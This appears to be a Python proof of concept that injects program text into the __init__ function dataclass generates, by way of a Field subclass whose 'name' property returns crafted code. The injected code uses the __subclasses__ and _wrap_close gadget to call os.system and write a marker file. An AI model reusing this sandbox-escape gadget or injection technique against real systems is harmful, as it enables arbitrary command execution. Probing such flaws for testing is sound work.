# A field that once has another name puts program text into the function that dataclass makes.
from dataclasses import dataclass, field

class TwoNames(type(field())):
    asked = 0
    wanted = 0

    @property
    def name(self):
        TwoNames.asked += 1
        if TwoNames.asked == TwoNames.wanted:
            found = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
            return "x=" + found + ".__init__.__globals__['system']('echo made > " + FOLDER + "/made.txt'), *, y"
        return "x"

    @name.setter
    def name(self, value):
        pass

for wanted in range(1, 30):
    TwoNames.wanted, TwoNames.asked = wanted, 0
    try:
        @dataclass(repr=False, eq=False)
        class Thing:
            x: int = TwoNames(1, None, True, True, None, True, None, False)
    except (SyntaxError, ValueError, TypeError, KeyError, NameError) as error:
        print(wanted)
